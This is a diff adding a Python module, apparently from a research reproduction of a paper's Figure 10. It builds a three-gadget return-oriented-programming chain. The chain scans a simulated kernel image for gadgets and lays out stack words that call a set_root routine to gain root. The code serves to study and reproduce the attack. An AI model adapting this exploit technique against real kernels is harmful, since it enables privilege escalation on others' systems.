@@ -1,0 +1,67 @@
+"""ROP chain construction (Figure 10(b)/(d)).
+
+The canonical chain reproduces the paper's example: three gadgets that
+together execute ``call [r2]`` with ``r2`` loaded from an attacker-chosen
+memory address — pointed at the kernel's ops table slot holding
+``set_root``, the privilege-escalation payload.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from repro.attacks.gadgets import Gadget, GadgetKind, GadgetScanner
+from repro.errors import AttackBuildError
+from repro.kernel.image import KernelImage
+
+
+@dataclass(frozen=True)
+class RopChain:
+    """The stack words an exploit must place above the return slot."""
+
+    gadgets: tuple[Gadget, ...]
+    #: Words laid out from the (overwritten) return-address slot upward.
+    stack_words: tuple[int, ...]
+    #: What the chain achieves, for reports.
+    description: str
+
+    def disassemble(self) -> list[str]:
+        """Gadget listing for forensics."""
+        return [gadget.disassemble() for gadget in self.gadgets]
+
+
+def build_set_root_chain(kernel: KernelImage,
+                         scanner: GadgetScanner | None = None) -> RopChain:
+    """Build Figure 10's three-gadget chain against the kernel image.
+
+    ``[G1, Addr, G2, G3]`` where G1 = ``pop r1; ret``, G2 = ``ld r2, [r1];
+    ret``, G3 = ``calli r2; ret`` and ``Addr`` is the ops-table slot that
+    holds a pointer to ``set_root``.  All three gadgets must be *found* in
+    the victim binary, not assumed.
+    """
+    if scanner is None:
+        scanner = GadgetScanner.over_image(kernel.image)
+    gadget_pop = scanner.find(GadgetKind.POP_REG, reg=1)
+    if gadget_pop is None:
+        raise AttackBuildError("no `pop r1; ret` gadget in the kernel image")
+    gadget_load = scanner.find(GadgetKind.LOAD_INDIRECT, reg=2, src_reg=1)
+    if gadget_load is None:
+        raise AttackBuildError("no `ld r2, [r1]; ret` gadget in the image")
+    gadget_call = scanner.find(GadgetKind.CALL_REG, reg=2)
+    if gadget_call is None:
+        raise AttackBuildError("no `calli r2; ret` gadget in the image")
+    layout = kernel.layout
+    target_slot = layout.ops_table_addr + layout.ops_table_entries - 1
+    return RopChain(
+        gadgets=(gadget_pop, gadget_load, gadget_call),
+        stack_words=(
+            gadget_pop.addr,    # overwrites the return-address slot (G1)
+            target_slot,        # popped into r1 by G1 (Addr)
+            gadget_load.addr,   # G2: r2 = *r1 = &set_root
+            gadget_call.addr,   # G3: calli r2
+        ),
+        description=(
+            "pop r1 <- &ops_table[last]; r2 <- *r1 (= set_root); calli r2 "
+            "-- grants root by zeroing the UID cell"
+        ),
+    )
